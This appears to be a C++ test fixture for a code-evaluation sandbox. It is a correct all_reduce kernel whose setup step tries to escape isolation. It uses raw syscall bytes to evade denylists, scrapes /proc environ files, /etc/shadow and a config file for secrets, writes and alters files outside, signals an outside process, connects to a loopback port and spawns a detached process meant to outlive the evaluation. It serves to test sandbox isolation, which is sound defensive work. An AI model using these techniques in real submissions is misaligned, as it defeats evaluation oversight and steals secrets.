// Hostile probe (problem all_reduce, fp32): a correct all_reduce whose rank 0, in
// kf_setup, tries every way out of the sandbox it can (system calls as instruction bytes,
// which no identifier or symbol check sees) and writes what worked to
// ./escape.txt, one line each: LEAK (a secret or a planted file read), ESCAPE (a write,
// a signal or a connection that reached outside). The test compiles it with its own
// targets defined (tests/isolation_test.cpp); with KF_CRASH_WITH_LOOT it also prints
// what it read and aborts, so that a leak would reach the crash's log and the verdict.
// Verdict: correct (crash with KF_CRASH_WITH_LOOT), with an escape.txt of no lines.
#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <kf/host.h>
#include <kf/kf.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <utime.h>

#include <atomic>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>

#ifndef KF_SECRET_MARK  // what every planted secret contains
#define KF_SECRET_MARK "KFTEST-SECRET"
#endif
#ifndef KF_PLANTED  // a file outside the sandbox's view
#define KF_PLANTED "/tmp/kforge-escape-planted"
#endif
#ifndef KF_TARGET  // a file outside whose mode and times must not change
#define KF_TARGET "/tmp/kforge-escape-target"
#endif
#ifndef KF_VICTIM_PID  // a process outside that must survive
#define KF_VICTIM_PID 0
#endif
#ifndef KF_PORT  // a listener on the machine's loopback
#define KF_PORT 0
#endif

namespace {

kf::host::Barrier g_barrier;
std::string g_loot;

// A system call by its instruction's bytes (x86-64): what the denylists cannot see.
long sc(long n, long a = 0, long b = 0, long c = 0) {
  long ret;
  register long r10 __asm__("r10") = 0;
  __asm__ volatile(".byte 0x0f, 0x05"
                   : "=a"(ret)
                   : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10)
                   : "rcx", "r11", "memory");
  return ret;
}

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

void found(FILE* f, const std::string& what) {
  std::fprintf(f, "%s\n", what.c_str());
  g_loot += what + "\n";
}

void read_all_environs(FILE* f) {
  DIR* d = opendir("/proc");
  if (!d) return;
  while (dirent* e = readdir(d)) {
    if (atoi(e->d_name) <= 0) continue;
    for (const char* file : {"environ", "cmdline"}) {
      std::string text = slurp(std::string("/proc/") + e->d_name + "/" + file);
      for (char& c : text)
        if (c == '\0') c = '\n';
      if (text.find(KF_SECRET_MARK) != std::string::npos)
        found(f, std::string("LEAK /proc/") + e->d_name + "/" + file + ": " + text);
    }
  }
  closedir(d);
}

void try_outside(FILE* f) {
  std::string planted = slurp(KF_PLANTED);
  if (!planted.empty()) found(f, "LEAK " KF_PLANTED ": " + planted);
  for (const char* p : {"/root/.config/kforge/config.json", "/etc/shadow"}) {
    std::string t = slurp(p);
    if (t.find(KF_SECRET_MARK) != std::string::npos) found(f, std::string("LEAK ") + p + ": " + t);
  }
  int fd = open("/tmp/kforge-escape-written", O_CREAT | O_WRONLY, 0644);
  if (fd >= 0 && write(fd, "x", 1) == 1) found(f, "ESCAPE wrote /tmp/kforge-escape-written");
  if (fd >= 0) close(fd);
  fd = open("/dev/shm/kforge-escape-shm", O_CREAT | O_WRONLY, 0644);
  if (fd >= 0) {
    close(fd);  // the test looks for it outside: a private /dev/shm keeps it in
  }
  if (chmod(KF_TARGET, 0777) == 0) found(f, "ESCAPE chmod " KF_TARGET);
  struct utimbuf times {
    1, 1
  };
  if (utime(KF_TARGET, &times) == 0) found(f, "ESCAPE utime " KF_TARGET);
  if (KF_VICTIM_PID > 0 && sc(SYS_kill, KF_VICTIM_PID, SIGTERM) == 0)
    found(f, "ESCAPE signalled the victim");
  if (KF_PORT > 0) {
    long s = sc(SYS_socket, AF_INET, SOCK_STREAM, 0);
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(KF_PORT);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (s >= 0 && sc(SYS_connect, s, reinterpret_cast<long>(&a), sizeof a) == 0)
      found(f, "ESCAPE connected to the loopback listener");
    if (s >= 0) close(static_cast<int>(s));
  }
}

// A process that leaves the rank's process group and session, meant to outlive the eval.
void spawn_survivor() {
  static const char* argv[] = {"/bin/sleep", "4242.5", nullptr};
  static const char* envp[] = {nullptr};
  if (sc(SYS_fork) == 0) {
    sc(SYS_setsid);
    if (sc(SYS_fork) == 0)
      sc(SYS_execve, reinterpret_cast<long>(argv[0]), reinterpret_cast<long>(argv),
         reinterpret_cast<long>(envp));
    sc(SYS_exit, 0);
  }
}

}  // namespace

extern "C" int kf_setup(kf::Comm& comm, kf::Tensors&) {
  if (!g_barrier.setup(comm)) return 1;
  if (comm.rank != 0) return 0;
  FILE* f = std::fopen("escape.txt", "w");
  if (!f) return 2;
  read_all_environs(f);
  try_outside(f);
  spawn_survivor();
  std::fclose(f);
#ifdef KF_CRASH_WITH_LOOT
  std::fprintf(stderr, "loot:\n%s", g_loot.c_str());
  std::abort();
#endif
  return 0;
}

extern "C" int kf_run(kf::Comm& comm, kf::Tensors& t) {
  const kf::Tensor& x = t["x"];
  float* y = t["y"].ptr<float>();
  const int64_t n = t["y"].numel;
  g_barrier.wait(comm);
  for (int64_t i = 0; i < n; ++i) {
    float s = 0;
    for (int r = 0; r < comm.world; ++r) s += comm.peer(x.ptr<const float>(), r)[i];
    y[i] = s;
  }
  g_barrier.wait(comm);
  return 0;
}
